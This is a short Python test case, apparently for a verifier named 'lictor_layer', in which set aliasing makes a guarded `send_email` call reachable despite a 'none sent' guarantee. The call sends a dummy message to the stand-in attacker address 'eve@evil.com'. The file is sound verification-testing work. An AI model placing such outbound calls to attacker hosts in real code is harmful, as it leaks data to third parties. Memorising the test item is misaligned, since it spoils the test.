# not proved: two names, one set
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    s = {"a"}
    t = s
    t.add("b")
    if "b" in s:
        send_email("eve@evil.com", "x")
